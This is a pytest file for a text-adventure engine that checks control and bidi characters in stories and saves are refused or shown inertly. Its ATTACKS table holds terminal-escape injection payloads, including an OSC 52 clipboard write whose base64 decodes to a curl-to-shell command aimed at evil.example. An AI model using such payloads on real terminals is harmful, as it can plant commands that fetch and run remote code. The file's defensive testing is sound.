"""Issue 11, "text is inert": nothing a story holds can act on the player's
terminal. Control and bidi characters are refused at load at their own line
and column, and everything the front ends and commands print passes one
sanitiser."""

from __future__ import annotations

import io
import os
import subprocess
import sys

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from game import check_story, load_story
from game.engine.safetext import FORBIDDEN, char_name, inert
from tests.conftest import ROOT

MANIFEST = """\
format: 1
id: t
title: "T"
start: a
variables:
  mood: {type: str, default: calm, values: [calm, "%s"], label: "%s"}
"""

SCENES = """\
scenes:
  - id: a
    title: "%s"
    chapter: "%s"
    text: "%s {mood}"
    choices:
      - id: go
        text: "%s"
        if: mood == 'calm'
        locked: "%s"
        note: n
        goto: b
  - id: b
    unlock: [c]
    ending: {title: "%s", text: "%s"}
notes:
  n: {title: "%s", text: "%s", source: "%s"}
codex:
  c: {name: "%s", kind: term, text: "%s", source: "%s"}
"""
N_FIELDS = SCENES.count("%s")

ATTACKS = {
    "clear screen": ("\\e[2J", "U+001B ESCAPE"),
    "clipboard (OSC 52)": ("\\e]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\\e\\\\", "U+001B ESCAPE"),
    "window title": ("\\e]0;title\\a", "U+001B ESCAPE"),
    "hyperlink": ("\\e]8;;http://evil.example\\a", "U+001B ESCAPE"),
    "carriage return": ("ok\\rbad", "U+000D CARRIAGE RETURN"),
    "backspace": ("ok\\bbad", "U+0008 BACKSPACE"),
    "C1 CSI": ("\\u009b2J", "U+009B CONTROL SEQUENCE INTRODUCER"),
    "bidi override": ("abc\\u202edef", "U+202E RIGHT-TO-LEFT OVERRIDE"),
    "bidi isolate": ("abc\\u2066def", "U+2066 LEFT-TO-RIGHT ISOLATE"),
    "DEL": ("a\\x7fb", "U+007F DELETE"),
}


def _write(story_dir, manifest_fields, scene_fields):
    story_dir.write("story.yaml", MANIFEST % manifest_fields)
    story_dir.write("scenes.yaml", SCENES % scene_fields)


@pytest.mark.parametrize("field", range(N_FIELDS))
@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_every_text_field_refuses_terminal_controls(story_dir, attack, field):
    payload, name = ATTACKS[attack]
    fields = ["plain"] * N_FIELDS
    fields[field] = payload
    _write(story_dir, ("other", "Mood"), tuple(fields))
    story, problems = story_dir.check()
    assert story is None
    errors = [str(p) for p in problems if p.is_error]
    # The first escape of the payload, at its own line and column (the payload
    # stands once in the file: every other field says "plain").
    where = story_dir.at("scenes.yaml", f'"{payload}', 1, 1 + payload.index("\\"))
    assert any(e.startswith(where + ": error: character " + name) for e in errors), (where, errors)


def test_manifest_label_and_str_value(story_dir):
    _write(story_dir, ("\\e[31m", "Mo\\e]0;x\\aod"), tuple(["plain"] * N_FIELDS))
    errors = [str(p) for p in story_dir.check()[1] if p.is_error]
    assert errors[0].startswith(story_dir.at("story.yaml", "\\e[31m") + ": error: character U+001B ESCAPE")
    assert errors[1].startswith(story_dir.at("story.yaml", "\\e]0") + ": error: character U+001B ESCAPE")


def test_raw_control_character_is_placed_on_one_line(story_dir):
    _write(story_dir, ("other", "Mood"), tuple(["plain"] * N_FIELDS))
    path = story_dir.root / "scenes.yaml"
    text = path.read_text().replace('text: "plain {mood}"', 'text: "pl\x1bain {mood}"')
    path.write_text(text)
    story_dir.files["scenes.yaml"] = text
    errors = [str(p) for p in story_dir.check()[1] if p.is_error]
    assert errors == [story_dir.at("scenes.yaml", "\x1b") + ": error: character U+001B ESCAPE is not allowed "
                      "in a story file (control and text-direction characters could act on the player's terminal)"]


def test_tab_becomes_spaces_and_newlines_stay(story_dir):
    _write(story_dir, ("other", "Mood"), tuple(["plain"] * N_FIELDS))
    path = story_dir.root / "scenes.yaml"
    path.write_text(path.read_text().replace('text: "plain {mood}"', 'text: "one\\ttwo\\nthree {mood}"'))
    story = load_story(str(story_dir.root))
    assert story.new_game().text == "one two\nthree calm"  # "\t" expanded to the next stop of 4


def test_lint_cli_prints_no_escape(story_dir):
    _write(story_dir, ("other", "Mood"), tuple(["plain"] * N_FIELDS))
    path = story_dir.root / "scenes.yaml"
    # A quoted key with an escape: the "unknown key" message would echo it.
    path.write_text(path.read_text().replace("    title:", '    "ti\\e]0;pwned\\atle": x\n    title:', 1))
    out = subprocess.run([sys.executable, "-m", "game", "lint", str(story_dir.root)], capture_output=True,
                         cwd=ROOT, timeout=60)
    assert out.returncode == 1
    assert b"\x1b" not in out.stdout + out.stderr and b"\x07" not in out.stdout
    assert b"U+001B ESCAPE" in out.stdout


def test_inert_shows_controls_as_escapes():
    assert inert("a\x1b[2Jb\u202ec\td\n") == "a\\u001b[2Jb\\u202ec    d\n"
    assert inert("Kōzō — «ok»") == "Kōzō — «ok»"
    assert char_name("\x9b") == "U+009B CONTROL SEQUENCE INTRODUCER"
    assert char_name("\x00") == "U+0000 NULL"


def test_tui_text_is_inert():
    from game.tui.safe import Text

    t = Text("x\x1b]52;c;AAAA\x07y")
    t.append("\x9b2J")
    t.append(Text("\u202e"))
    assert not FORBIDDEN.search(t.plain)


def test_plain_mode_prints_a_damaged_save_label_inertly(tmp_path):
    """A save edited by hand (a label with an OSC 52 clipboard write) is
    listed, and the bytes written hold no ESC."""
    import json

    from game.plain import run_plain
    story = load_story(os.path.join(ROOT, "tests", "data", "spy"))
    saves = tmp_path / "saves"
    play = story.new_game(seed=1)
    play.save(saves / "spy.mine.json", label="x")
    data = json.loads((saves / "spy.mine.json").read_text())
    data["label"] = data["scene_title"] = data["chapter"] = "\x1b]52;c;Y3VybA==\x07"
    (saves / "spy.mine.json").write_text(json.dumps(data))
    out = io.StringIO()
    run_plain(story, saves=str(saves), stdin=io.StringIO("l\nq\n"), stdout=out)
    assert "mine" in out.getvalue()
    assert not FORBIDDEN.search(out.getvalue())


# Printable text with control and bidi characters mixed in, written as YAML
# double-quoted escapes or raw.
_CHARS = st.one_of(st.characters(min_codepoint=0x20, max_codepoint=0x7e, exclude_characters='"\\{}'),
                   st.sampled_from(["\x1b", "\x07", "\x08", "\r", "\x9b", "\x85", "\u202e", "\u2066", "\x7f", "\x00"]))


def _escape(ch: str) -> str:
    return f"\\u{ord(ch):04x}" if FORBIDDEN.match(ch) or ch == "\r" else ch


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_property_refused_at_the_place_or_inert_on_screen(tmp_path_factory, data):
    from tests.conftest import StoryDir

    story_dir = StoryDir(tmp_path_factory.mktemp("s"))
    raw = data.draw(st.booleans())
    fields = []
    for _ in range(N_FIELDS):
        s = "".join(data.draw(st.lists(_CHARS, min_size=1, max_size=12)))
        fields.append(s if raw else "".join(_escape(c) for c in s))
    labels = tuple("".join(_escape(c) for c in data.draw(st.lists(_CHARS, min_size=1, max_size=6))) for _ in range(2))
    story_dir.write("story.yaml", MANIFEST % labels)
    body = SCENES % tuple(fields)
    (story_dir.root / "scenes.yaml").write_bytes(body.encode("utf-8"))
    story_dir.files["scenes.yaml"] = body
    story, problems = story_dir.check()
    bad_chars = [c for f in fields for c in (f if raw else f.encode().decode("unicode_escape"))
                 if FORBIDDEN.match(c)]
    if story is None:
        errors = [p for p in problems if p.is_error]
        assert errors, problems
        for p in errors:
            assert p.line >= 1 and p.column >= 1
        if bad_chars and not any("character U+" in p.message for p in errors):
            pytest.fail(f"control characters {bad_chars!r} were not named: {errors}")
        return
    # Lint accepted it: nothing shown to the player holds a control character.
    from game.engine.session import Session
    from game.plain import PlainGame
    from game.engine.saves import SaveStore

    out = io.StringIO()
    game = PlainGame(io.StringIO("1\n"), out, SaveStore(story_dir.root / "saves"))
    game.play(Session.new(story, None, seed=1))
    assert not FORBIDDEN.search(out.getvalue())
    for text in (story.new_game().text, story.title):
        assert not FORBIDDEN.search(text)
